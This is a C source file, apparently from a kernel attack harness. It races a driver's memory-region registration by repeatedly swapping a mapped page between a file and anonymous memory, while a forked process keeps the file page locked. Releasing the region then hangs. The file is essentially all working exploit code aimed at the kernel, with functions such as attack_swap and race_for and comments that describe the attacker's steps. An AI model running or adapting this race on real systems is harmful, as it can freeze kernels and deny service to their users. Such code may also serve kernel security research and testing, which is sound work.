// SPDX-License-Identifier: GPL-2.0-only
/*
 * A file's page that comes into a region behind the module's look at the mapping.
 *
 * While one thread registers memory, another exchanges its first page for one of a file and back,
 * again and again. Nobody else touches the file, so a read of it means that the driver pins its
 * page. By then another process of the attacker's wants that page's lock, and it keeps the lock,
 * because it waits for a write that nobody answers. Whoever gives the region back needs the lock.
 *
 * Later kernels let no driver pin such a page: there he tries all the time.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <unistd.h>

#include "attack.h"

/* The driver pins so many at a time, so it has pinned the first before the others have come. */
#define LENGTH		(512 * PAGE)

struct race {
	const struct pager *pager;
	struct side side;
	char *range;
};

static bool page_is_read(void *arg)
{
	const struct race *race = arg;

	return __atomic_load_n(&race->pager->state->first_reads, __ATOMIC_SEQ_CST);
}

static void *exchange_first_page(void *arg)
{
	struct race *race = arg;
	void *at = race->range, *now = at;

	while (now == at && !page_is_read(race)) {
		now = mmap(at, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED,
			   race->pager->fd, 0);
		if (now == at)
			now = mmap(at, PAGE, PROT_READ | PROT_WRITE,
				   MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
	}
	return NULL;
}

/* A page that is written back is written to in a fault, which locks it and waits. */
static void keep_page_locked(struct race *race)
{
	char *page = pager_map(race->pager, PROT_READ | PROT_WRITE, MAP_SHARED);

	prctl(PR_SET_PDEATHSIG, SIGKILL);
	while (!page_is_read(race))
		poll(NULL, 0, 1);
	for (;;) {
		sync_file_range(race->pager->fd, 0, PAGE, SYNC_FILE_RANGE_WRITE);
		__atomic_store_n(page, 1, __ATOMIC_RELAXED);
	}
}

/* The pages behind the first are new each time, so that their pinning takes a while. */
static int register_range(struct race *race)
{
	struct ibchan_cmd_mr_reg cmd = {
		.addr = address(race->range), .length = LENGTH, .pd = race->side.pd,
		.access = IBCHAN_ACCESS_LOCAL_WRITE,
	};
	int rc;

	if (madvise(race->range + PAGE, LENGTH - PAGE, MADV_DONTNEED))
		return -errno;
	rc = cmd_mr_reg(race->side.fd, &cmd);
	return rc == -EFAULT ? 0 : rc ?: destroy(race->side.fd, cmd.out_mr);
}

/* Never returns. */
static void race_for(const struct pager *pager)
{
	struct race race = { .pager = pager };
	pthread_t thread;
	int rc;

	prctl(PR_SET_PDEATHSIG, SIGKILL);
	rc = open_file(&race.side);
	race.range = mmap(NULL, LENGTH, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (rc || race.range == MAP_FAILED)
		_exit(1);
	if (!fork())
		keep_page_locked(&race);
	rc = pthread_create(&thread, NULL, exchange_first_page, &race);
	while (!rc && !page_is_read(&race))
		rc = register_range(&race);
	if (rc)
		fprintf(stderr, "a registration: %d\n", rc);
	for (;;)
		pause();
}

int attack_swap(void)
{
	unsigned int i;
	pid_t child;

	for (i = 0; i < HANGING; i++) {
		child = fork();
		if (!child)
			race_for(&scene.pagers[i]);
		if (child < 0)
			return -errno;
		if (pager_is_waited_for(&scene.pagers[i]))
			continue;
		if (kernel_is_before(6, 5))
			return -ETIMEDOUT;
		break;
	}
	fprintf(stderr, "pages of %u files came into regions\n", i);
	return stay();
}

int serve_pages(void)
{
	const struct pager_rules honest = { .first_page = PAGER_ALWAYS };
	unsigned int i;
	int rc = 0;

	for (i = 0; i < HANGING && !rc; i++)
		rc = pager_begin(&scene.pagers[i], PAGE, &honest);
	return rc;
}
